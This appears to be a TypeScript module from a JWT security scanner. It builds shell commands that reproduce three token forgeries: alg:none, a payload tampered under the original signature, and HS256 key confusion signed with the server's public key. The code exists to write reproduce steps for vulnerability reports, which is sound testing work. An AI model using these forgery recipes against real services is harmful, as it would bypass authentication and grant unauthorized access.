// Shell lines that rebuild each forged token from the real one held in a `$RAMPART_…` variable, so a
// reproduce line can name the forged token without the report ever carrying it (or the claims inside it).
import type { ParsedJwt } from "./decode.js";
import { TAMPER_CLAIM } from "./forge.js";

function b64url(value: unknown): string {
  return Buffer.from(JSON.stringify(value), "utf8").toString("base64url");
}

/** The real token without a `Bearer ` prefix, as a shell expression. */
const bare = (variable: string) => `\${${variable}#Bearer }`;

/** forgeAlgNone: the header (no secret in it) literally, the payload cut from the real token, no signature. */
export function algNoneRecipe(jwt: ParsedJwt, variant: string, from: string, to: string): string {
  return `export ${to}="${b64url({ ...jwt.header, alg: variant })}.$(printf %s "${bare(from)}" | cut -d. -f2)."`;
}

/** forgeTamperedPayload: the same claims plus the probe claim, under the real header and signature. */
export function tamperedRecipe(from: string, to: string): string {
  const js =
    `const [h,p,s]=process.argv[1].split(".");const c=JSON.parse(Buffer.from(p,"base64url"));` +
    `c.${TAMPER_CLAIM}="tampered";console.log(h+"."+Buffer.from(JSON.stringify(c)).toString("base64url")+"."+s)`;
  return `export ${to}="$(node -e '${js}' "${bare(from)}")"`;
}

/** forgeKeyConfusion: the real claims under `alg: HS256`, signed with the server's public key as published at `keyUrl`. */
export function keyConfusionRecipe(from: string, to: string, keyUrl: string, jwksIndex: number | null, pem: "spki" | "spki-trimmed" | "pkcs1"): string {
  const key = jwksIndex === null ? "process.argv[2]" : `{key:JSON.parse(process.argv[2]).keys[${jwksIndex}],format:"jwk"}`;
  const exported = `c.createPublicKey(${key}).export({type:"${pem === "pkcs1" ? "pkcs1" : "spki"}",format:"pem"})${pem === "spki-trimmed" ? ".trimEnd()" : ""}`;
  const js =
    `const c=require("crypto");const [h,p]=process.argv[1].split(".");const H=JSON.parse(Buffer.from(h,"base64url"));H.alg="HS256";` +
    `const i=Buffer.from(JSON.stringify(H)).toString("base64url")+"."+p;const k=${exported};` +
    `console.log(i+"."+c.createHmac("sha256",k).update(i).digest("base64url"))`;
  return `export ${to}="$(node -e '${js}' "${bare(from)}" "$(curl -s '${keyUrl}')")"`;
}
